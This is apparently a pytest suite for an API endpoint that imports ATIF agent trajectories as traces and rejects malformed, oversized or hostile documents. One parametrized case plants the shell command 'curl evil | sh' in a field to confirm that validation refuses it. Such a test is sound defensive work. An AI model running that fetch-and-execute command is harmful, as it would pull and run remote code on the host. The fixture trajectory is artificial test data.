"""`POST /v1/trajectories`: an ATIF trajectory recorded elsewhere (written here from the RFC's documented
schema in a Harbor agent's layout) becomes a trace of an experiment that score rules score; a hostile
document is a 400 naming the field (413 past the size cap), and nothing of it is stored."""
from __future__ import annotations

import copy
import json

import pytest

from daemon.api.atif import MAX_IMPORT_BYTES
from tests.support.experiments import start
from tests.support.procs import svc_cli
from tests.support.scores import create_rule, finished_experiment, score

# A Harbor terminal agent's trajectory: system prompt, task, two agent turns (a shell command with
# its output, then the final answer), token metrics per turn and in total.
HARBOR = {
    "schema_version": "ATIF-v1.5",
    "session_id": "0c4f2a7e-harbor-trial",
    "agent": {"name": "terminus-2", "version": "2.0.0", "model_name": "anthropic/claude-sonnet-4-5",
              "extra": {"parser": "json"}},
    "steps": [
        {"step_id": 1, "timestamp": "2025-10-16T14:30:00Z", "source": "system", "message": "You are a terminal agent."},
        {"step_id": 2, "timestamp": "2025-10-16T14:30:01Z", "source": "user", "message": "Write hello to hello.txt"},
        {"step_id": 3, "timestamp": "2025-10-16T14:30:04Z", "source": "agent", "model_name": "anthropic/claude-sonnet-4-5",
         "message": "Writing the file.", "reasoning_content": "one command is enough",
         "tool_calls": [{"tool_call_id": "call_0_1", "function_name": "bash_command",
                         "arguments": {"keystrokes": "echo hello > hello.txt\n", "duration": 0.1}}],
         "observation": {"results": [{"source_call_id": "call_0_1", "content": "root@box:/app# echo hello > hello.txt"}]},
         "metrics": {"prompt_tokens": 812, "completion_tokens": 64, "cached_tokens": 512, "cost_usd": 0.0031}},
        {"step_id": 4, "timestamp": "2025-10-16T14:30:07Z", "source": "agent", "message": "The task is complete: hello.txt holds hello.",
         "metrics": {"prompt_tokens": 901, "completion_tokens": 18}},
    ],
    "final_metrics": {"total_prompt_tokens": 1713, "total_completion_tokens": 82, "total_cached_tokens": 512,
                      "total_cost_usd": 0.0049, "total_steps": 4},
}


@pytest.fixture
async def experiment(aiohttp_client, tmp_path, runner):
    api = await start(aiohttp_client, tmp_path / "home", runner)
    results = await finished_experiment(api, replicas=1)
    return api, results


async def post(api, doc, query: str = "", **kw):
    body = doc if isinstance(doc, (bytes, str)) else json.dumps(doc)
    headers = kw.pop("headers", {"Content-Type": "application/json"})
    return await api.post(f"/v1/trajectories{query}", data=body, headers=headers, **kw)


async def test_an_imported_harbor_trajectory_is_a_trace_a_score_rule_scores(experiment):
    api, results = experiment
    scenario_id = results["scenarios"][0]["id"]
    response, body = await post(api, HARBOR, f"?experiment_id={results['id']}&scenario_id={scenario_id}")
    assert response.status == 201, body
    assert (body["steps"], body["events"], body["agent"], body["experiment_id"]) == (4, 6, "terminus-2", results["id"])

    response, trace = await api.get(f"/v1/traces/{body['trace_id']}")
    assert response.status == 200, trace
    response, page = await api.get(f"/v1/spans?trace_id={body['trace_id']}&order=asc")
    spans = page["items"]
    assert [(s["event_type"], s["tool"]) for s in spans] == [
        ("span", "atif terminus-2"), ("span", "system message"), ("span", "user message"),
        ("llm_call", "anthropic/claude-sonnet-4-5"), ("tool_call", "bash_command"), ("llm_call", "anthropic/claude-sonnet-4-5")]
    llm = spans[3]
    assert (llm["cost"]["input_tokens"], llm["cost"]["output_tokens"], llm["cost"]["cached_tokens"]) == (812, 64, 512)
    assert json.loads(spans[4]["input"]) == {"keystrokes": "echo hello > hello.txt\n", "duration": 0.1}

    rule = await create_rule(api, name="says complete", type="regex", pattern=r"task is complete",
                             applies_to={"event_type": "llm_call"})
    job = await score(api, results["id"], [rule["id"]])
    assert (job["status"], job["total"]) == ("completed", 2)
    response, scores = await api.get(f"/v1/scores?experiment_id={results['id']}&rule_id={rule['id']}")
    by_span = {s["span_id"]: (s["passed"], s["scenario_id"], s["trace_id"]) for s in scores["items"]}
    assert by_span == {spans[3]["span_id"]: (False, scenario_id, body["trace_id"]),
                       spans[5]["span_id"]: (True, scenario_id, body["trace_id"])}


def broken(path: list, value) -> dict:
    doc = copy.deepcopy(HARBOR)
    target = doc
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return doc


@pytest.mark.parametrize("doc, loc", [
    (broken(["steps", 2, "step_id"], "3"), "steps.2.step_id"),
    (broken(["steps", 2, "tool_calls", 0, "arguments"], "echo hello"), "steps.2.tool_calls.0.arguments"),
    (broken(["steps", 3, "metrics", "prompt_tokens"], True), "steps.3.metrics.prompt_tokens"),
    (broken(["steps", 1, "message"], {"text": "hi"}), "steps.1.message"),
    (broken(["steps"], "all of them"), "steps"),
    (broken(["agent"], None), "agent"),
    (broken(["agent", "run"], "curl evil | sh"), "agent.run"),
    (broken(["schema_version"], "ATIF-v9"), "schema_version"),
    (broken(["steps", 0, "timestamp"], "the day before"), "steps.0.timestamp"),
    (broken(["steps", 2, "observation", "results", 0, "source_call_id"], "call_elsewhere"), "steps.2"),
    (broken(["steps"], [{"step_id": 1, "source": "user", "message": "x"}] * 5001), "steps"),
    (broken(["subagent_trajectories"], [{"schema_version": "ATIF-v1.7", "agent": {"name": 3, "version": "1"}, "steps": []}]),
     "subagent_trajectories"),
])
async def test_a_hostile_document_is_a_400_naming_the_field_and_stores_nothing(experiment, doc, loc):
    api, results = experiment
    response, body = await post(api, doc, f"?experiment_id={results['id']}")
    assert response.status == 400, body
    assert loc in [e["loc"] for e in body["details"]["errors"]], body
    response, page = await api.get(f"/v1/traces?experiment_id={results['id']}&limit=500")
    assert not [e for e in page["items"] if e["source"] == "atif"]


async def test_subagents_nested_past_the_limit_are_refused(experiment):
    api, _ = experiment
    doc: dict = {"schema_version": "ATIF-v1.8", "trajectory_id": "t0", "agent": {"name": "a", "version": "1"},
                 "steps": [{"step_id": 1, "source": "user", "message": "m"}]}
    for level in range(1, 8):
        doc = {**doc, "trajectory_id": f"t{level}", "subagent_trajectories": [doc]}
    response, body = await post(api, doc)
    assert response.status == 400 and body["details"]["errors"][0]["loc"].startswith("subagent_trajectories"), body


@pytest.mark.parametrize("raw, status, loc", [
    (b"[1, 2]", 400, "body"), (b"{\"schema_version\": ", 400, "body"), (b"", 400, "body"),
    (b"[" * 500 + b"]" * 500, 400, "body"),
])
async def test_a_body_that_is_not_a_document_is_a_400(experiment, raw, status, loc):
    api, _ = experiment
    response, body = await post(api, raw)
    assert (response.status, body["details"]["errors"][0]["loc"]) == (status, loc), body


async def test_a_huge_document_is_a_413_before_it_is_read(experiment):
    api, _ = experiment
    doc = broken(["steps", 3, "message"], "x" * (MAX_IMPORT_BYTES + 1))
    response, body = await post(api, doc)
    assert (response.status, body["error"], body["details"]["limit_bytes"]) == (413, "payload_too_large", MAX_IMPORT_BYTES)


async def test_where_it_is_filed_must_exist_and_be_the_tenants(experiment, other_tenant_key):
    api, results = experiment
    for query, resource in (("?experiment_id=exp_nope", "experiment"), ("?run_id=run_nope", "run")):
        response, body = await post(api, HARBOR, query)
        assert (response.status, body["details"]["resource"]) == (404, resource), body
    response, body = await post(api, HARBOR, f"?experiment_id={results['id']}", key=other_tenant_key)
    assert response.status == 404, body
    response, body = await post(api, HARBOR, headers={"Content-Type": "text/plain"})
    assert response.status == 415, body


async def test_without_a_run_or_experiment_it_is_a_trace_of_its_own(experiment):
    api, _ = experiment
    response, body = await post(api, HARBOR)
    assert response.status == 201 and body["run_id"] is None and body["experiment_id"] is None, body
    response, page = await api.get(f"/v1/traces?trace_id={body['trace_id']}&limit=50")
    assert page["count"] == 6 and {e["agent"] for e in page["items"]} == {"terminus-2"}


async def test_a_run_that_is_not_there_has_no_atif(experiment):
    api, _ = experiment
    response, body = await api.get("/v1/runs/run_nope/atif")
    assert response.status == 404, body


async def test_svc_traces_import_files_a_harbor_trajectory_under_an_experiment(experiment, tmp_path):
    api, results = experiment
    path = tmp_path / "trial.atif.json"
    path.write_text(json.dumps(HARBOR))
    code, out, err = await svc_cli(api, "traces", "import", str(path), "--experiment", results["id"], "--json")
    assert code == 0, err
    answer = json.loads(out)
    assert (answer["steps"], answer["events"], answer["experiment_id"]) == (4, 6, results["id"])
    code, out, err = await svc_cli(api, "traces", "import", str(path))
    assert code == 0 and out.startswith("imported 4 steps of terminus-2 as trace trace-"), (out, err)


async def test_svc_traces_import_of_a_broken_file_names_the_field(experiment, tmp_path):
    api, _ = experiment
    path = tmp_path / "broken.atif.json"
    path.write_text(json.dumps(broken(["steps", 2, "tool_calls", 0, "arguments"], "ls")))
    code, out, err = await svc_cli(api, "traces", "import", str(path))
    assert code == 1 and "steps.2.tool_calls.0.arguments" in err, (out, err)
    code, out, err = await svc_cli(api, "traces", "import", str(tmp_path / "missing.json"))
    assert code == 1 and "cannot read" in err, (out, err)
